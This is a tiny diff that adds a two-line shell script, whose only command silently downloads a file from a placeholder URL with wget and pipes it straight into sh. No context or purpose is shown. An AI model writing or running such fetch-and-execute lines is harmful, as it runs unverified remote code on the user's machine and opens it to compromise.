@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -qO- https://example.org/x | sh
